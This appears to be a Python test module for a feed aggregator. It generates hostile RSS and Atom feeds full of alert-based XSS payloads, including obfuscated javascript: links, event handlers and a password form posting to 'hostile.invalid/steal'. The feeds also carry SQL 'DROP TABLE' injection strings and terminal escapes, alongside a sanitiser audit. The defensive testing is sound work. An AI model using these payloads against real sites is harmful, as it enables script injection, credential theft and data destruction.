"""Hostile feeds for the rendering tests: section 8 group D of the reliability notes.

Three documents, written here (nothing copied from elsewhere):

- an RSS feed with script in escaped titles (D4), javascript:/data:/vbscript: links in
  link, guid, comments and enclosure, plain and obfuscated (D5), content full of forms,
  SVG, MathML, frames, meta refresh, base, tracking pixels, handlers and styles (D6),
  titles that break naive XML (D7) and SQL (D8), bidi and zero-width characters (D3);
- an RSS feed with raw terminal escapes and controls in titles (D2), which is not
  well-formed XML, so feedparser falls back to its loose parser;
- an Atom feed with the Atom spellings of the same (xhtml titles, padded schemes in
  link hrefs, javascript: ids).

Every payload that would run calls `alert(...)`, so a browser test sees a dialog if any
of them ever executes.
"""

from __future__ import annotations

from datetime import datetime
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

from aggregator.models import Config, FeedSpec
from aggregator.pipeline import Pipeline, RunReport
from aggregator.store import open_store

HOSTILE_GROUP = "hostile"
# One distinctive word per hostile item: every one must be shown on some page. (Items may
# share an event when the grouping decides they tell one story; the count of events is
# the dedup's business, not the renderer's.)
HOSTILE_SUBJECTS = (
    "orchards", "ferries", "tunnels", "observatories", "lighthouses", "libraries",
    "timetables", "breakers", "parliament", "bridges", "harbours", "glaciers", "volcanoes",
)  # fmt: skip

_CONTENT_ATTACKS = """
<p>Before the attacks.</p>
<form action="https://hostile.invalid/steal" method="post"><input name="password">
<button formaction="javascript:alert('formaction')">Send</button></form>
<svg onload="alert('svg onload')"><circle r="5"></circle></svg>
<math><maction actiontype="statusline" xlink:href="javascript:alert('mathml')">m</maction></math>
<iframe src="javascript:alert('iframe')"></iframe>
<iframe srcdoc="&lt;script&gt;alert('srcdoc')&lt;/script&gt;"></iframe>
<meta http-equiv="refresh" content="0;url=javascript:alert('refresh')">
<base href="javascript:alert('base')//">
<img src="https://tracker.invalid/pixel.gif" width="1" height="1" alt="">
<img src="x" onerror="alert('onerror')">
<a href="#" onclick="alert('onclick')">click me</a>
<a href="JaVaScRiPt&#58;alert('entity colon')">entity link</a>
<a href="java&#x09;script:alert('tab')">tab link</a>
<a href="  javascript:alert('spaces')">padded link</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnZGF0YScpPC9zY3JpcHQ+">data link</a>
<a href="vbscript:msgbox('vbscript')">vbscript link</a>
<style>body { background: url("javascript:alert('style element')") }</style>
<div style="background-image: url(javascript:alert('style attribute'))">styled</div>
<object data="javascript:alert('object')"></object>
<embed src="javascript:alert('embed')">
<script>alert('script element')</script>
<noscript><p title="</noscript><img src=x onerror=alert('noscript')>"></p></noscript>
<a href="https://example.invalid/fine">a fine link</a>
<p>After the attacks.</p>
"""

_RSS = f"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/">
<channel>
<title>&lt;script&gt;alert('feed title')&lt;/script&gt; Hostile RSS</title>
<link>javascript:alert('feed link')</link>
<description>&lt;img src=x onerror=alert('feed description')&gt;</description>
<item>
  <title>&lt;script&gt;alert('escaped title')&lt;/script&gt; Escaped script title about orchards
  </title>
  <link>javascript:alert('item link')</link>
  <guid isPermaLink="true">javascript:alert('guid')</guid>
  <comments>javascript:alert('comments')</comments>
  <enclosure url="javascript:alert('enclosure')" type="audio/mpeg" length="1"/>
  <description>Quarterly harvest report for northern orchards.</description>
</item>
<item>
  <title>Padded scheme link about river ferries</title>
  <link>  JAVASCRIPT:alert('padded')</link>
</item>
<item>
  <title>Tab obfuscated link about mountain tunnels</title>
  <link>java&#x09;script:alert('tab')</link>
</item>
<item>
  <title>Entity obfuscated link about desert observatories</title>
  <link>JaVaScRiPt&#58;alert('entity')</link>
</item>
<item>
  <title>Data link about coastal lighthouses</title>
  <link>data:text/html,&lt;script&gt;alert('data')&lt;/script&gt;</link>
</item>
<item>
  <title>VBScript link about city libraries</title>
  <link>vbscript:msgbox('vbscript')</link>
</item>
<item>
  <title>Every content attack at once, about railway timetables</title>
  <link>https://hostile.invalid/content</link>
  <content:encoded><![CDATA[{_CONTENT_ATTACKS}]]></content:encoded>
</item>
<item>
  <title>Serialiser breakers ]]&gt; &amp;lt;/title&amp;gt; &amp;amp; &amp;lt; 𝕏 😀
    in a title</title>
  <link>https://hostile.invalid/breakers?a=1&amp;b=2</link>
  <description>Text with ]]&gt; and &amp;lt;/content&amp;gt; and 𝄞 music.</description>
</item>
<item>
  <title>'); DROP TABLE entries;-- "quoted" title about parliament</title>
  <link>https://hostile.invalid/sql?q=');%20DROP%20TABLE%20feeds;--</link>
  <description>'); DROP TABLE events;-- and "double quotes" and 'single'.</description>
  <author>"); DROP TABLE feeds;-- &lt;b onmouseover=alert('author')&gt;</author>
</item>
<item>
  <title>Bidi \u202eevil\u202c override and \u2066isolate\u2069 and zero\u200bwidth
    about bridges</title>
  <link>https://hostile.invalid/bidi</link>
</item>
</channel>
</rss>
"""

# Raw controls are not allowed in XML 1.0: this document is ill-formed on purpose.
_CONTROLS = (
    b'<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0"><channel>'
    b"<title>Control characters</title>"
    b"<item><title>Terminal \x1b]0;pwned\x07 title \x1b[2J cleared \x0b\x08 about harbours"
    b"</title><link>https://hostile.invalid/controls</link>"
    b"<description>Bell \x07 escape \x1b[31m red \x1b[0m text about harbours.</description>"
    b"</item></channel></rss>\n"
)

_ATOM = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
<title type="html">&lt;img src=x onerror=alert('atom feed title')&gt;Hostile Atom</title>
<id>javascript:alert('atom feed id')</id>
<updated>2023-07-28T12:00:00Z</updated>
<link href="javascript:alert('atom feed link')"/>
<entry>
  <title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">
    <script>alert('xhtml title')</script>Xhtml title about glaciers</div></title>
  <id>javascript:alert('atom id')</id>
  <link href="  JAVASCRIPT:alert('atom link')"/>
  <updated>2023-07-28T12:00:00Z</updated>
  <author><name>&lt;script&gt;alert('atom author')&lt;/script&gt;</name></author>
  <content type="html">&lt;img src=x onerror=alert('atom content')&gt;
    &lt;a href="javascript:alert('atom a')"&gt;link&lt;/a&gt; about glaciers</content>
</entry>
<entry>
  <title type="html">&lt;b onmouseover="alert('atom html title')"&gt;Html title&lt;/b&gt;
    about volcanoes</title>
  <id>tag:hostile.invalid,2023:volcanoes</id>
  <link rel="alternate" href="https://hostile.invalid/volcanoes"/>
  <updated>2023-07-28T12:00:00Z</updated>
  <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">
    <p onclick="alert('xhtml content')">Volcano text</p>
    <a href="javascript:alert('xhtml a')">x</a></div></content>
</entry>
</feed>
"""


def write_hostile_feeds(directory: Path) -> tuple[FeedSpec, ...]:
    """Write the three hostile documents into `directory`; their specs, in group
    HOSTILE_GROUP (names carry markup too: they are feed-controlled in real life)."""
    directory.mkdir(parents=True, exist_ok=True)
    files = {
        "hostile.rss": _RSS.encode("utf-8"),
        "controls.rss": _CONTROLS,
        "hostile.atom": _ATOM.encode("utf-8"),
    }
    specs = []
    for name, body in files.items():
        path = directory / name
        path.write_bytes(body)
        specs.append(FeedSpec(name=f"<b>{name}</b> \u202e", group=HOSTILE_GROUP, path=path))
    return tuple(specs)


def sanitize_corpus_specs(folder: Path) -> tuple[FeedSpec, ...]:
    """One local feed per file of feedparser's `sanitize` test folder (read in place)."""
    return tuple(
        FeedSpec(name=f"sanitize/{path.stem}", group="sanitize", path=path)
        for path in sorted(folder.glob("*.xml"))
    )


def ingest(db: Path, specs: tuple[FeedSpec, ...], *, now: datetime) -> RunReport:
    """Every spec through the real pipeline (fetch, parse, normalise, dedup, store)."""
    store = open_store(db)
    config = Config(path=db.parent / "feeds.yaml", feeds=specs)
    pipeline = Pipeline(store=store, config=config, clock=lambda: now)
    try:
        return pipeline.run(all_feeds=True)
    finally:
        pipeline.close()
        store.close()


# Elements that must never reach a page: they run code, load content or submit data.
FORBIDDEN_ELEMENTS = frozenset(
    {"script", "iframe", "frame", "object", "embed", "applet", "form", "input", "button",
     "svg", "math", "base", "style", "noscript", "textarea", "select", "template"}
)  # fmt: skip
URL_ATTRIBUTES = frozenset({"href", "src", "action", "formaction", "xlink:href", "data", "poster"})
SAFE_SCHEMES = frozenset({"http", "https", "mailto"})


MARK_FIELDS = frozenset({"csrf", "event", "action", "back"})


class _MarkupAudit(HTMLParser):
    """Collects what a page must not contain (T20 of the reliability notes).

    Three things of our own are expected: the search form in the page header (GET /search,
    one search box, one submit button, no handler), the mark forms of a served digest (POST
    /mark, hidden fields and submit buttons only) and, in a standalone file, the
    stylesheet in <head>. Anything else of the kind is a problem, wherever it is."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._in_head = False
        self._in_own_form = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        own = (
            (tag == "style" and self._in_head)
            or (tag == "form" and values.get("action") == "/search" and not self._in_head)
            or (
                tag == "form"
                and values.get("action") == "/mark"
                and values.get("method") == "post"
                and not self._in_head
            )
            or (self._in_own_form and tag == "input" and values.get("name") == "q")
            or (
                self._in_own_form
                and tag == "input"
                and values.get("type") == "hidden"
                and values.get("name") in MARK_FIELDS
            )
            or (self._in_own_form and tag == "button" and values.get("type") == "submit")
        )
        if tag == "head":
            self._in_head = True
        if tag == "form" and own:
            self._in_own_form = True
        if tag in FORBIDDEN_ELEMENTS and not own:
            self.problems.append(f"<{tag}> element")
        equiv = values.get("http-equiv")
        if tag == "meta" and equiv is not None and equiv.lower() != "content-security-policy":
            self.problems.append(f"<meta http-equiv={equiv!r}>")
        for name, value in values.items():
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=...> handler")
            if name == "style":
                self.problems.append(f"<{tag} style=...> attribute")
            if name in URL_ATTRIBUTES:
                problem = _url_problem(tag, values, value)
                if problem:
                    self.problems.append(problem)

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag: str) -> None:
        if tag == "head":
            self._in_head = False
        if tag == "form":
            self._in_own_form = False


def _url_problem(tag: str, values: dict[str, str], value: str) -> str | None:
    # As a browser reads it: tabs and newlines removed, spaces and controls trimmed.
    decoded = "".join(c for c in value if c not in "\t\n\r").strip(" \x00-\x1f")
    if decoded.startswith(("/", "?", "#")) and not decoded.startswith("//"):
        return None  # our own routes
    if tag == "link" and values.get("rel") == "icon" and decoded == "data:,":
        return None  # the empty icon
    scheme = urlsplit(decoded).scheme.lower()
    if scheme not in SAFE_SCHEMES:
        return f"<{tag}> link with scheme {scheme!r}: {value[:60]!r}"
    return None


def unsafe_markup(page: str) -> list[str]:
    """Everything in `page` that could run, load or submit something it should not."""
    audit = _MarkupAudit()
    audit.feed(page)
    audit.close()
    return audit.problems
